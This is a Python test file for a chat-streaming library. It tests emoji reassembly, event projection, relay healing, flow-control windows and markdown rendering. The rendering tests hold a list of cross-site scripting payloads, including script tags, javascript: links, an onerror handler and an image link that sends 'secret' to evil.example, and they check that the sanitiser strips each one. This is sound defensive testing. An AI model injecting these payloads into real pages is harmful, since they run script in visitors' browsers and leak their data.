"""The parts of the feed that need no server: the hub's pieces, the projection, the cursor's text, the rendering."""

from __future__ import annotations

from typing import Any
from uuid import uuid4

import pytest
from hypothesis import given
from hypothesis import strategies as st

from criogen_threads.engine.telling import Told
from criogen_threads.models import Event, Message, Run
from criogen_threads.streaming import agui, rendering
from criogen_threads.streaming.hub import Stream
from criogen_threads.streaming.parts import TEXT, OpenMessage
from criogen_threads.streaming.showing import Viewer
from criogen_threads.streaming.watched import Watched
from criogen_threads.streaming.window import LIVE_BYTES, PAGE_BYTES, Window
from criogen_threads.streaming.wires import Open, live

VIEWER = Viewer(None)


def told(type: str, run: Run, message: Message | None = None, **details: Any) -> Told:
    event = Event(seq=1, type=type, run_id=run.pk, agent="x", details=details or None, message=message)
    return Told(event, message, None, run)


def kinds(events: list[dict[str, Any]]) -> list[str]:
    return [event["name"] if event["type"] == "CUSTOM" else event["type"] for event in events]


# F53 -----------------------------------------------------------------------------------------------------------


@given(st.text(st.sampled_from("a😀👩‍👩‍👧é"), max_size=30), st.lists(st.integers(1, 4), min_size=1, max_size=60))
def test_f53_an_emoji_that_a_provider_splits_is_put_together(text: str, sizes: list[int]) -> None:
    """Pieces cut between the halves of a surrogate pair, as some providers send them."""
    units = text.encode("utf-16-le", "surrogatepass")
    stream, found, position = Stream("k"), "", 0
    for size in [*sizes, len(units)]:
        piece = units[position : position + 2 * size].decode("utf-16-le", "surrogatepass")
        position += 2 * size
        halves = "".join(
            chr(int.from_bytes(piece.encode("utf-16-le", "surrogatepass")[i : i + 2], "little"))
            for i in range(0, len(piece.encode("utf-16-le", "surrogatepass")), 2)
        )
        whole = stream.whole(halves)
        whole.encode()  # no half of a character leaves
        found += whole
    assert found == text


# The projection --------------------------------------------------------------------------------------------------


def test_a_crash_and_a_retry_withdraw_the_half_answer_and_end_the_run_before_it_begins_again() -> None:
    run, having = Run(), Open()
    agui.project(having, told("run_start", run), "k", VIEWER)
    live(having, "m", "m", TEXT, "", "half", 0)
    events = agui.project(having, told("run_start", run, attempt=2), "k", VIEWER)
    assert kinds(events) == ["TEXT_MESSAGE_END", "criogen.discarded", "RUN_ERROR", "RUN_STARTED"]
    assert (having.run, having.message) == (str(run.pk), None)


def test_an_answered_run_goes_on_without_a_second_start() -> None:
    run, having = Run(), Open()
    agui.project(having, told("run_start", run), "k", VIEWER)
    assert agui.project(having, told("run_start", run, attempt=1), "k", VIEWER) == []


@given(st.text(max_size=40), st.integers(0, 40))
def test_f51_a_saved_answer_sends_exactly_what_the_client_has_not_got(text: str, have: int) -> None:
    have = min(have, len(text))
    message = Message(id=uuid4(), role="assistant", content=[{"text": text}], position=1, agent="x")
    name, having = str(message.pk), Open(run="r")
    pieces = live(having, name, name, TEXT, "", text[:have], 0) if have else []
    events = [*pieces, *agui.project(having, told("message", Run(), message), "k", VIEWER)]
    deltas = [event["delta"] for event in events if event["type"] == "TEXT_MESSAGE_CONTENT"]
    assert "".join(deltas) == text
    assert kinds(events).count("TEXT_MESSAGE_START") == kinds(events).count("TEXT_MESSAGE_END") == bool(text)
    assert having.message is None


def test_text_that_is_not_how_the_saved_answer_begins_is_withdrawn_and_sent_anew() -> None:
    message = Message(id=uuid4(), role="assistant", content=[{"text": "right"}], position=1, agent="x")
    name, having = str(message.pk), Open(run="r")
    live(having, name, name, TEXT, "", "wro", 0)
    events = agui.project(having, told("message", Run(), message), "k", VIEWER, consistent=False)
    assert kinds(events)[:2] == ["TEXT_MESSAGE_END", "criogen.discarded"]
    assert [event["delta"] for event in events if event["type"] == "TEXT_MESSAGE_CONTENT"] == ["right"]


def test_a_sites_own_event_is_passed_on() -> None:
    (event,) = agui.project(Open(), told("mood", Run(), how="good"), "k", VIEWER)
    assert (event["type"], event["name"], event["value"]) == ("CUSTOM", "mood", {"how": "good"})


# What a relay knows ----------------------------------------------------------------------------------------------


def piece(message: str, offset: int, text: str) -> dict[str, Any]:
    return {"run": "r", "message": message, "part": message, "kind": TEXT, "name": "", "offset": offset, "text": text}


@given(st.text(min_size=1, max_size=60), st.data())
def test_pieces_lost_doubled_and_healed_by_snapshots_give_the_text_and_nothing_else(text: str, data: Any) -> None:
    watched, position = Watched("k"), 0
    whole = OpenMessage("r", "m")
    while position < len(text):
        size = data.draw(st.integers(1, 8))
        whole.part("m", TEXT).add(text[position : position + size])
        for _ in range(data.draw(st.integers(0, 2))):  # lost, once or twice
            watched.hear_piece(piece("m", position, text[position : position + size]))
        if data.draw(st.booleans()):
            watched.hear_snapshot(whole.snapshot())
        position += size
        if watched.open is not None and "m" in watched.open.parts:
            assert text.startswith(watched.open.parts["m"].text)
    watched.hear_snapshot(whole.snapshot())
    assert watched.open is not None
    assert watched.open.parts["m"].text == text
    watched.settle("m")
    watched.hear_piece(piece("m", 0, text))  # late
    watched.hear_snapshot(whole.snapshot())
    assert watched.open is None


# The window ------------------------------------------------------------------------------------------------------


async def test_a_window_stops_at_a_page_in_the_past_and_at_a_megabyte_live() -> None:
    window = Window()
    for _ in range(LIVE_BYTES // PAGE_BYTES):
        await window.room(replay=False)
        assert window.count(PAGE_BYTES) is not None
    assert not window.acknowledge(99)
    assert window.acknowledge(2)
    await window.room(replay=False)
    assert window.acknowledge(4)
    await window.room(replay=True)
    assert window.sent - window.acknowledged == 0


# Rendering -------------------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>", "[x](javascript:alert(1))", "![x](https://evil.example/?q=secret)",
    '<img src=x onerror="alert(1)">', "[x](data:text/html,<script>)", "<https://evil.example/\"onmouseover=alert(1)>",
    "```html\" onload=\"x\n<b>\n```", "[a]: javascript:alert(1)\n[a]", "<a href='javascript:x'>y</a>",
    "[x](vbscript:y)", "&#x6A;avascript:alert(1)", "<style>*{}</style>", "<iframe src=//e>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_f55_f56_markdown_is_sanitised_and_no_image_is_fetched(text: str) -> None:
    html = rendering.render(text) or ""
    for bad in ("<script", "<img", "<iframe", "<style", 'href="javascript', 'href="data', 'href="vbscript', 'onload="'):
        assert bad not in html.lower()


def test_f60_each_block_has_its_own_direction_and_code_keeps_its_language() -> None:
    html = rendering.render("# a\n\n- ב\n\n```python\nx\n```\n\n|a|\n|-|\n|b|\n") or ""
    for part in ('<h1 dir="auto">', '<li dir="auto">', '<code class="language-python">', '<td dir="auto">'):
        assert part in html


@given(st.text(max_size=200))
def test_no_text_breaks_the_renderer(text: str) -> None:
    rendering.render(text)


@pytest.mark.parametrize("text", ["x" * 50_001, ">" * 30 + " deep", "- " * 40 + "deep"])
def test_what_would_lose_text_stays_plain(text: str) -> None:
    assert rendering.render(text) is None


@given(st.lists(st.sampled_from(["text\n", "\n", "```\n", "- a\n"]), max_size=20))
def test_closed_blocks_only_grow_and_never_end_in_a_fence(lines: list[str]) -> None:
    text, before = "".join(lines), 0
    for end in range(len(text) + 1):
        closed = rendering.closed(text[:end], 0)
        assert before <= closed <= end
        before = closed
    assert text[:before].count("```") % 2 == 0
